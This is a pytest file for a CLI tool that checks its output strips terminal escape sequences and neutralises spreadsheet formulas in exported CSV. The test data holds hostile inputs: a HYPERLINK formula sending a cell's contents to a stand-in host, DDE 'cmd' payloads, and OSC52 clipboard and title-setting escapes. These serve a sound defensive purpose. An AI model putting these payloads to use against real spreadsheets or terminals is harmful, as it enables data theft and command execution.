"""What the CLI prints carries no escape sequence from stored, ingested or model text, and the
CSV it writes runs no formula (issue 12, items 1, 2 and 6).

Each command is called in-process (tests/support.run_cli); what it prints is checked for any
control character a terminal would obey (ESC, BEL, the C1 range with OSC U+009D...).
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings

from icpchat import services
from icpchat.domain.models import Citation
from icpchat.export.registry import render
from icpchat.runner import Runner
from tests.conftest import EXAMPLES
from tests.fakes import FakeLLM
from tests.support import CliResult, run_cli, run_cli_process
from tests.unit.test_terminal_text import HOSTILE, OSC0, OSC52

#: Anything but newline and tab below space, DEL and C1: what must not reach the terminal.
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
C1_OSC = "\x9d0;c1 title\x9c"


def assert_printable(result: CliResult) -> None:
    for name, stream in (("stdout", result.stdout), ("stderr", result.stderr)):
        text = stream.decode("utf-8")
        found = OBEYED.search(text)
        assert found is None, (
            f"{name} carries {found.group()!r}: {text[max(0, found.start() - 40) : found.end() + 40]!r}"
        )


def answers(name: str = "Acme" + OSC0, text: str = OSC52) -> dict[str, Any]:
    return {
        "business": {"name": name, "offering": "AP automation " + text, "model": "b2b", "problem": "x" + C1_OSC},
        "icps": [{"name": "Mid-market" + OSC0, "industries": ["SaaS" + text], "pains": ["slow close" + text]}],
        "personas": [{"name": "Fiona\x07", "icp": "Mid-market" + OSC0, "job_title": "CFO" + text}],
    }


def profile_file(path: Path, data: dict[str, Any]) -> Path:
    catalog = services.build_catalog()
    profile = Runner(catalog, clock=services.clock()).run(data, "answers.yaml")
    path.write_bytes(render(profile, catalog, "json"))
    return path


def seed_session(name: str, texts: list[str]) -> None:
    conversation = services.build_conversation(services.load_settings(depth="quick"), name)
    try:
        for text in texts:
            conversation.submit(text)
    finally:
        conversation.close()


# -- the commands of the issue ---------------------------------------------------------------


def test_sessions_list_and_show():
    seed_session("evil", ["Acme" + OSC0 + OSC52, "AP automation" + C1_OSC])
    listed = run_cli("sessions", "list")
    assert listed.returncode == 0
    assert_printable(listed)
    assert "Acme␛]0;pwned␛\\␛]52;c;" in listed.out
    as_json = run_cli("sessions", "list", "--json")
    assert_printable(as_json)
    assert json.loads(as_json.out)[0]["business"] == "Acme" + OSC0 + OSC52  # the data stay exact
    shown = run_cli("sessions", "show", "evil")
    assert shown.returncode == 0
    assert_printable(shown)


def test_diff_text_and_json(tmp_path):
    old = profile_file(tmp_path / "old.json", answers(text="plain"))
    new = profile_file(tmp_path / "new.json", answers())
    result = run_cli("diff", str(old), str(new))
    assert result.returncode == 0 and "␛]52;c;" in result.out
    assert_printable(result)
    as_json = run_cli("diff", str(old), str(new), "--json")
    assert_printable(as_json)
    changes = json.loads(as_json.out)
    assert any(OSC52 in str(c.get("new")) for c in changes)


def test_lint_with_a_hostile_file_name_and_answers(tmp_path):
    path = profile_file(tmp_path / f"icp{OSC0}.json", answers(name="everyone" + OSC52))
    result = run_cli("lint", str(path))
    assert result.returncode == 0
    assert "icp␛]0;pwned" in result.out
    assert_printable(result)
    assert_printable(run_cli("lint", str(path), "--json"))


def test_run_to_stdout_in_every_text_format(tmp_path):
    source = tmp_path / "answers.yaml"
    source.write_text(yaml.safe_dump(answers(), allow_unicode=True))
    for fmt in ("md", "json", "html"):
        result = run_cli("run", "--answers", str(source), "--format", fmt)
        assert result.returncode == 0, result.err
        assert_printable(result)


def test_run_writes_every_format_with_controls_and_a_long_name(tmp_path):
    """docx exited 1 on a control character or a name over 255 characters, after md, json and
    html were already written."""
    source = tmp_path / "answers.yaml"
    data = answers(name="Acme " + "x" * 295 + "\x00\x1b\x07")
    data["business"]["offering"] = "nul\x00 esc\x1b bell\x07 Word line\x0bbreak"
    source.write_text(json.dumps(data))
    out = tmp_path / "out"
    result = run_cli("run", "--answers", str(source), "--out", str(out), "--format", "md,json,html,docx")
    assert result.returncode == 0, result.err
    assert_printable(result)
    written = sorted(p.suffix for p in out.iterdir())
    assert written == [".docx", ".html", ".json", ".md"]
    from docx import Document

    (docx_file,) = out.glob("*.docx")
    doc = Document(str(docx_file))  # opens again
    paragraphs = [p.text for p in doc.paragraphs]
    assert "What we sell: nul␀ esc␛ bell␇ Word line\nbreak" in paragraphs  # Word's vertical tab: a line break
    assert len(doc.core_properties.title) <= 255


def test_error_messages_show_controls(tmp_path):
    source = tmp_path / "answers.json"
    source.write_text(json.dumps({"business": {"name" + OSC0: "x"}, OSC52: 1}))
    result = run_cli("run", "--answers", str(source))
    assert result.returncode == 2
    assert_printable(result)


# -- score: formula cells and escapes -------------------------------------------------------


def test_score_neutralises_formula_cells(tmp_path):
    """A real process: the CSV as a shell redirect would store it for a spreadsheet."""
    leads = tmp_path / "leads.csv"
    rows = [
        ["Company", "Industry", "Employees", "Country"],
        ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "SaaS", "120", "Germany"],
        ["+cmd|' /C calc'!A0", "SaaS", "-5", "Germany"],
        ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "80", "Germany"],
        ["\t=1+1", "Fintech", "60", "Germany"],
        ["Title" + OSC0, "SaaS" + C1_OSC, "70", "Germany"],
    ]
    with leads.open("w", newline="") as fh:
        csv.writer(fh).writerows(rows)
    result = run_cli_process("score", str(leads), "--profile", str(EXAMPLES / "ledgerloop.json"))
    assert result.returncode == 0, result.err
    assert_printable(result)
    table = list(csv.DictReader(io.StringIO(result.out)))
    companies = {r["Company"] for r in table}
    assert "'" + rows[1][0] in companies and "'+cmd|' /C calc'!A0" in companies
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in companies and "'\t=1+1" in companies
    assert "'-2+3+cmd|' /C calc'!A0" in {r["Industry"] for r in table}
    assert "-5" in {r["Employees"] for r in table}  # a real negative number stays a number
    for r in table:
        for cell in r.values():
            assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-[\d.,]+", cell), cell
        int(r["score"])
    as_json = run_cli("score", str(leads), "--profile", str(EXAMPLES / "ledgerloop.json"), "--format", "json")
    assert_printable(as_json)
    assert rows[1][0] in {r["row"]["Company"] for r in json.loads(as_json.out)}  # JSON keeps data exact


# -- ask: ingested passages and model text ------------------------------------------------------

PASSAGE = Citation(
    title="Notes" + OSC0,
    source="evil" + OSC52 + ".md",
    heading="Triggers\x07",
    text="A new CFO " + OSC52 + C1_OSC + " opens a window.",
    score=0.9,
)


class FakeKnowledge:
    def search(self, query: str, k: int) -> list[Citation]:
        return [PASSAGE]

    def status(self) -> Any:
        class Status:
            def to_dict(self) -> dict[str, Any]:
                return {
                    "location": "/tmp/index",
                    "backend": "chroma",
                    "collection": "icp",
                    "model": "m",
                    "articles": 1,
                    "user_docs": {"evil" + OSC0 + ".md": 2},
                    "chunks": 3,
                    "up_to_date": False,
                    "reason": "changed" + OSC52,
                }

        return Status()


@pytest.fixture
def knowledge(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(services, "build_knowledge_base", lambda *a, **k: FakeKnowledge())


@pytest.mark.usefixtures("knowledge")
def test_ask_offline_shows_passages_safely():
    result = run_cli("ask", "who buys?")
    assert result.returncode == 0, result.err
    assert "A new CFO ␛]52;c;" in result.out
    assert_printable(result)
    as_json = run_cli("ask", "who buys?", "--json")
    assert_printable(as_json)
    assert json.loads(as_json.out)["citations"][0]["text"] == PASSAGE.text


@pytest.mark.usefixtures("knowledge")
def test_ask_with_a_model_prints_its_pieces_safely(monkeypatch):
    reply = "Look for a new CFO. " + OSC0 + OSC52 + C1_OSC + " Then call."
    monkeypatch.setattr(services, "build_llm", lambda *a, **k: FakeLLM(answers=[reply]))
    result = run_cli("ask", "who buys?", "--llm", "openai")
    assert result.returncode == 0, result.err
    assert "Look for a new CFO. ␛]0;pwned" in result.out
    assert_printable(result)


@pytest.mark.usefixtures("knowledge")
def test_kb_status_shows_document_names_safely():
    result = run_cli("kb", "status")
    assert result.returncode == 0 and "evil␛]0;pwned" in result.out
    assert_printable(result)
    assert_printable(run_cli("kb", "status", "--json"))


def test_index_notices_show_document_names_safely(tmp_path):
    """The index's notices on stderr name ingested documents and their paths."""
    from icpchat.retrieval.index import ChromaIndex

    notices = io.StringIO()
    index = ChromaIndex(knowledge_dir=tmp_path, index_dir=tmp_path / "index", progress=notices, embedder=object())
    index._say(f"warning: evil{OSC0}.md: /tmp/evil{OSC52}.md is gone; removed it from the knowledge base")
    assert "evil␛]0;pwned" in notices.getvalue()
    assert not OBEYED.search(notices.getvalue())


# -- arbitrary text through the printing commands ----------------------------------------------


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(HOSTILE, HOSTILE)
def test_printing_commands_never_pass_controls(tmp_path, before, after):
    old = profile_file(tmp_path / "old.json", answers(name="x" + before, text="x" + before))
    new = profile_file(tmp_path / "new.json", answers(name="x" + after, text="x" + after))
    for args in (("diff", str(old), str(new)), ("diff", "--json", str(old), str(new)), ("lint", str(new))):
        result = run_cli(*args)
        assert result.returncode == 0, result.err
        assert_printable(result)
    shown = run_cli("export", str(new), "--format", "md")
    assert_printable(shown)
